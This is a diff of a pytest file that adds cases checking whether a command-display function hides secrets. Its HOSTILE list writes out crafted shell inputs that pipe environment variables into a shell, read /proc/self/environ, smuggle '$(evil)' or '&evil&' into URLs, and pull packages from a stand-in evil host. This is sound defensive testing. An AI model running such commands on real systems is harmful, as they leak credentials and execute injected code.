@@ -81,6 +81,66 @@ HOSTILE = [
     (["sh", "-c", "env | tail -1 | sh"], {"TOKEN": RANDOM}, RANDOM),
     (["python", "-c", "import x"], {"KEY": RANDOM}, RANDOM),
     (["x", f"{'a' * 140_000} TOKEN=evil"], {}, "TOKEN=evil"),
+    (["npx", "-y", "shop", ISSUED], {}, ISSUED),
+    *(
+        (line.split(), {}, line.split()[-1])
+        for line in (
+            "uvx --python 3.12 sk-evil-pkg1",
+            "uvx -p 3.12 sk-evil-pkg1",
+            "uvx --with foo sk-evil-pkg1",
+            "uv tool run --python 3.12 sk-evil-pkg1",
+            "uv run --with mcp sk-evil-pkg1",
+            "uvx mcp --with=sk-evil-pkg1",
+            "uvx --with=sk-evil-pkg1",
+            "pipx run --index-url https://pypi.example sk-evil-pkg1",
+            "mise exec node@20 sk-evil-pkg1",
+            "docker run -v a:b sk-evil-pkg1",
+            "podman run -v a:b --passwd evilimage",
+            "env -C /x sk-evil-pkg1",
+            "sudo -u me sk-evil-pkg1",
+            "timeout 5 sk-evil-pkg1",
+            "timeout 5 token=evilprogram",
+            "nice -n 5 sk-evil-pkg1",
+            "node --conditions dev sk-evil-pkg1",
+            "python -X dev sk-evil-pkg1",
+            "java -cp x.jar hf_EvilClass123",
+        )
+    ),
+    (
+        ["uvx", "--with", "a", "--from", "https://evil.example/p.whl?token=v2", "p"],
+        {},
+        "token=v2",
+    ),
+    (["npx", "-y", "x://a:b$(evil)@c"], {}, "$(evil)"),
+    (["cmd", "/c", "npx", "x://a:b&evil&@c"], {}, "&evil&"),
+    (["sh", "-c", 'eval "$API_KEY"'], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", "source x; $API_KEY"], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", 'sh -c "$API_KEY"'], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", 'a=API; eval "\\$${a}_KEY"'], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", "set | tail -1 | sh"], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", "node -e 'x(process.env)'"], {"API_KEY": RANDOM}, RANDOM),
+    (["env", f"API_KEY={RANDOM}", "sh", "-c", "$API_KEY"], {}, RANDOM),
+    (
+        ["docker", "run", f"--env=API_KEY={RANDOM}", "i", "sh", "-c", "$API_KEY"],
+        {},
+        RANDOM,
+    ),
+    *(
+        (["sh", "-c", code], {"API_KEY": RANDOM}, RANDOM)
+        for code in (
+            'eval "$(env)"',
+            "env A=1 | tail -1 | sh",
+            'e""nv | tail -1 | sh',
+            "a=en; ${a}v | tail -1 | sh",
+            "x=$(declare -p); $x",
+            "npx -y $API_KEY",
+            "tr '\\0' '\\n' < /proc/self/env* | sh",
+        )
+    ),
+    (["cmd", "/c", "npx", "-y", "shop", "x://a:b&evil&@c"], {}, "&evil&"),
+    (["x"], {"EDITOR": "x://a:$(evil)@c"}, "$(evil)"),
+    (["x"], {"API_KEY": "./evil.so"}, "evil.so"),
+    (["x"], {"API_KEY": "https://evil.example/x"}, "evil.example"),
 ]
 
 # The command, its variables, and the secret that must not be shown.
@@ -88,7 +148,6 @@ HONEST = [
     (["npx", "-y", "shop", "--api-key", "open-sesame"], {}, "open-sesame"),
     (["npx", "-y", "shop", "--api-key=open-sesame"], {}, "open-sesame"),
     (["npx", "shop@1.2", "--token", RANDOM], {}, RANDOM),
-    (["npx", "-y", "shop", ISSUED], {}, ISSUED),
     (["cmd", "/c", "npx", "-y", "shop", "--api-key", RANDOM], {}, RANDOM),
     (["uvx", "--from", "shop", "serve", "--password", "p@ss!w0rd"], {}, "p@ss!w0rd"),
     (["uv", "run", "server.py", "--api-key", RANDOM], {}, RANDOM),
@@ -130,6 +189,54 @@ HONEST = [
     (
         ["npx", "mcp-remote", "https://x.example", "--header", "Authorization:${AUTH}"],
         {"AUTH": "Bearer open-sesame"},
+        "open-sesame",
+    ),
+    (["uvx", "--python", "3.12", "shop", "--token", RANDOM], {}, RANDOM),
+    (["docker", "run", "-v", "a:b", "shop", "--token", RANDOM], {}, RANDOM),
+    (["deno", "run", "-A", "server.ts", "--token", RANDOM], {}, RANDOM),
+    (["java", "-jar", "shop.jar", "--token", RANDOM], {}, RANDOM),
+    (["env", f"API_KEY={RANDOM}", "sh", "-c", "npx -y shop"], {}, RANDOM),
+    (["timeout", "5", "shop", "--token", RANDOM], {}, RANDOM),
+    (
+        ["bash", "-c", "source ~/.nvm/nvm.sh && npx -y srv"],
+        {"API_KEY": f"sk-{RANDOM}"},
+        RANDOM,
+    ),
+    (["sh", "-c", "uv run --env-file .env srv"], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", "set -e; export A=1; npx srv"], {"API_KEY": RANDOM}, RANDOM),
+    (["sh", "-c", "cd ~/srv && exec $HOME/srv"], {"API_KEY": RANDOM}, RANDOM),
+    (["bash", "-lc", ". ~/.profile; exec node x.js"], {"GIT_PAT": RANDOM}, RANDOM),
+    (["sh", "-c", 'eval "$(fnm env)" && npx srv'], {"API_KEY": RANDOM}, RANDOM),
+    *(
+        (command, variable, secret)
+        for password in ("pa$s12", "pa(s12", "p@ss12")
+        for secret in (password, password.split("@")[-1])
+        for url in (f"postgres://u:{password}@h/db",)
+        for command, variable in (
+            (["shop", url], {}),
+            (["npx", "-y", "shop", url], {}),
+            (["x"], {"DATABASE_URL": url}),
+        )
+    ),
+    (["x"], {"DB_PASSWORD": "/abc123"}, "abc123"),
+    (["x"], {"TOKEN": "abc.def.ghi"}, "abc.def"),
+    (["x"], {"ENCRYPTION_KEY": "q83v//Zx81kQpLm29vTTyRw0cB/9eA=="}, "q83v"),
+    *(
+        (["x"], {name: RANDOM}, RANDOM)
+        for name in (
+            "LD_SDK_KEY",
+            "CONFIGCAT_SDK_KEY",
+            "NODE_SECRET_KEY",
+            "APP_CONFIG_ENCRYPTION_KEY",
+            "GIT_PAT",
+        )
+    ),
+    (
+        [
+            *("uvx", "mcp-proxy", "--headers", "Authorization"),
+            *("Bearer open-sesame", "https://x.example"),
+        ],
+        {},
         "open-sesame",
     ),
 ]
@@ -203,8 +310,12 @@ def test_an_argument_with_white_space_or_shell_characters_is_shown(option, value
     assert "<secret of" not in "".join(shown)
 
 
-@pytest.mark.parametrize("piece", ["-", "a-", "_", "a1", "://a:", "a.", "a/", "$K "])
+@pytest.mark.parametrize(
+    "piece",
+    ["-", "a-", "_", "a1", "://a:", "a.", "a/", "$K ", "(", "node ", "a=b ", "@a"],
+)
 def test_a_long_word_is_looked_through_all_the_same(piece):
     word = piece * (100_000 // len(piece))
-    shown, _ = show_command(["sh", "-c", word], {"K": "abc"})
+    shown, _ = show_command(["sh", "-c", word], {"K": "abc", "API_KEY": "abc"})
     assert shown[2] == word
+    show_command(["x", f"x://a:{word} "], {"URL": f"x://a:{word} "})
